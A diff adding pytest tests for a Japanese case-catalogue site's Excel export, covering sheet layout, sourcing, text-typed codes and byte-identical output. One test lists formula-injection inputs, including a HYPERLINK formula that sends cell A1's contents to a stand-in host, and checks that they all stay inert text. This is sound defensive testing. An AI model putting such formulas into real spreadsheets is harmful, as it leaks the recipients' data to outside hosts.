@@ -1,0 +1,173 @@
+"""The Excel workbook: what a colleague sees upon opening it, and what never happens in it."""
+
+import hashlib
+from collections.abc import Iterator
+from io import BytesIO
+from pathlib import Path
+from zipfile import ZipFile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from generator.catalog import Catalog, read_catalog
+from generator.exports.workbook import CellError, workbook
+from generator.index import Index
+from generator.register import Register
+from generator.schema import Fund, Statement
+from generator.schema.vocabulary import FundFamily
+from tests.built import CONTENT, built
+from tests.door import TOY
+from tests.hostile import build_hostile
+
+NAMES = ["事例", "記述と出典", "テーマ・課題", "使えるお金", "専門部会", "出典", "説明"]
+
+
+def read(site: Path) -> Workbook:
+    return load_workbook(site / "downloads" / "cases.xlsx")
+
+
+def rows(page: Worksheet) -> list[dict[str, str]]:
+    """The rows of a sheet by the names of its columns; an empty cell reads ''."""
+    head, *others = ([cell or "" for cell in row] for row in page.iter_rows(values_only=True))
+    return [dict(zip(map(str, head), map(str, row), strict=True)) for row in others]
+
+
+@pytest.fixture(scope="module")
+def toy(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return built(TOY, tmp_path_factory.mktemp("workbook") / "site")
+
+
+@pytest.fixture(scope="module")
+def real(tmp_path_factory: pytest.TempPathFactory) -> Workbook:
+    return read(built(CONTENT, tmp_path_factory.mktemp("workbook") / "site"))
+
+
+def texts(book: Workbook) -> Iterator[tuple[str, str]]:
+    for page in book.worksheets:
+        for row in page.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    yield str(cell.data_type), str(cell.value)
+
+
+def test_every_sheet_can_be_filtered_and_keeps_its_head_in_view(toy: Path) -> None:
+    book = read(toy)
+    assert book.sheetnames == NAMES
+    for page in book.worksheets:
+        assert page.auto_filter.ref == page.dimensions, page.title
+        assert page.freeze_panes in {"C2", "B2"}, page.title
+        assert page.print_title_rows == "$1:$1"
+        for cell in page[1]:
+            assert cell.font.bold
+            assert cell.alignment.wrap_text
+            assert page.column_dimensions[cell.coordinate.rstrip("1")].width >= 8
+
+
+def test_codes_stay_text_with_their_zeros(toy: Path) -> None:
+    cases = {row["id"]: row for row in rows(read(toy)["事例"])}
+    assert cases["urakawa"]["団体コード"] == "016071"
+    assert cases["shimoda-higashimatsushima"]["団体コード"] == "222194；042145"
+    page = read(toy)["事例"]
+    assert {cell.number_format for row in page.iter_rows(min_row=2) for cell in row} == {"@"}
+
+
+def test_what_is_not_known_is_said(toy: Path) -> None:
+    cases = {row["id"]: row for row in rows(read(toy)["事例"])}
+    assert cases["sado"]["つまずき"] == "情報未収集"
+    assert cases["urakawa"]["つまずき"] != "情報未収集"
+
+
+def test_every_statement_names_its_source(toy: Path) -> None:
+    found = rows(read(toy)["記述と出典"])
+    assert [row["記述"] for row in found if row["id"].startswith("shimoda")] == [
+        "二つの港町で共同の作業場所を貸し合う。"
+    ]
+    assert all(row["出典資料"] and row["出典の場所"] for row in found)
+
+
+def test_themes_say_what_they_rest_on(toy: Path) -> None:
+    found = {row["id"]: row for row in rows(read(toy)["テーマ・課題"])}
+    two = found["shimoda-higashimatsushima"]
+    assert (two["課題：経費削減"], two["テーマ：産業/仕事"], two["テーマ：防災"]) == (
+        "一覧表○",
+        "章",
+        "",
+    )
+    assert two["根拠"].startswith("経費削減：")
+    assert "1列目" in two["根拠"]
+
+
+def test_the_real_workbook_holds_everything(real: Workbook) -> None:
+    counts = {page.title: page.max_row - 1 for page in real.worksheets}
+    for name, kind in (("事例", "cases"), ("テーマ・課題", "cases"), ("使えるお金", "funding"),
+                       ("専門部会", "subcommittees")):  # fmt: skip
+        assert counts[name] == len(list((CONTENT / kind).glob("*.yml"))), name
+    about = {row["項目"]: row["内容"] for row in rows(real["説明"])}
+    dates = {row["最終確認日"] for name in ("事例", "専門部会") for row in rows(real[name])}
+    assert about["データの日付"].startswith(max(dates))
+    assert about["シート「使えるお金」"] == f"{counts['使えるお金']}行"
+
+
+def test_money_tells_rate_caps_and_what_is_excluded(real: Workbook) -> None:
+    funds = rows(real["使えるお金"])
+    assert all(row["概要"] and row["出典"] for row in funds)
+    assert any("※" in row["注"] for row in funds)
+    assert {"情報未収集"} < {row["率"] for row in funds}
+
+
+def test_hostile_texts_stay_texts(tmp_path: Path) -> None:
+    book = read(build_hostile(tmp_path / "site"))
+    found = list(texts(book))
+    assert {kind for kind, _ in found} == {"s"}
+    assert any("<script>" in text for _, text in found)
+    cells = (cell for page in book.worksheets for row in page.iter_rows() for cell in row)
+    assert not [cell.coordinate for cell in cells if cell.hyperlink]
+
+
+HOSTILE = (
+    '=HYPERLINK("https://x.example/?"&A1)', "＝1+1", "＋1+1", "-2", "@SUM(1)", "{=1+1}",
+    "https://x.example/", "_x0041_ と _x000D_", "007", "1/2", "TRUE", "#REF!",
+)  # fmt: skip
+
+
+def test_nothing_becomes_a_formula_a_number_or_a_link() -> None:
+    catalog, _ = read_catalog(TOY)
+    case = catalog.cases[0]
+    cases = tuple(
+        case.model_copy(
+            update={
+                "id": f"case-{number}",
+                "consortium": case.consortium.model_copy(update={"name": text}),
+            }
+        )
+        for number, text in enumerate(HOSTILE)
+    )
+    hostile = Catalog({**catalog.entries, "cases": cases}, catalog.documents)
+    book = load_workbook(BytesIO(workbook(hostile, Index(hostile, Register.load()))))
+    cells = [cell for row in book["事例"].iter_rows() for cell in row if cell.value in HOSTILE]
+    assert sorted(str(cell.value) for cell in cells) == sorted(HOSTILE)
+    assert {(cell.data_type, cell.hyperlink) for cell in cells} == {("s", None)}
+
+
+def test_a_text_that_excel_would_cut_is_refused() -> None:
+    catalog, _ = read_catalog(TOY)
+    fund = Fund.model_construct(
+        id="long", order=1, name="長い", family=FundFamily.TAX, ministry=None, purposes=(),
+        applicants=None, applicants_note=None, rate=None, caps=None, amounts=None, eligible=None,
+        excluded=None, notes=(), plan_link=None,
+        overview=tuple(Statement(text="𠮷" * 200, source="003/overview") for _ in range(82)),
+    )  # fmt: skip
+    longer = Catalog({**catalog.entries, "funding": (fund,)}, catalog.documents)
+    with pytest.raises(CellError, match=r"使えるお金.*2行目"):
+        workbook(longer, Index(longer, Register.load()))
+
+
+def test_the_same_content_gives_the_same_bytes(toy: Path, tmp_path: Path) -> None:
+    again = built(TOY, tmp_path / "site") / "downloads" / "cases.xlsx"
+    first = toy / "downloads" / "cases.xlsx"
+    digests = [hashlib.sha256(file.read_bytes()).hexdigest() for file in (first, again)]
+    assert digests[0] == digests[1]
+    with ZipFile(BytesIO(first.read_bytes())) as parts:
+        assert {part.date_time[0] for part in parts.infolist()} == {1980}
+    assert read(toy).properties.created.isoformat() == "2026-03-31T00:00:00"
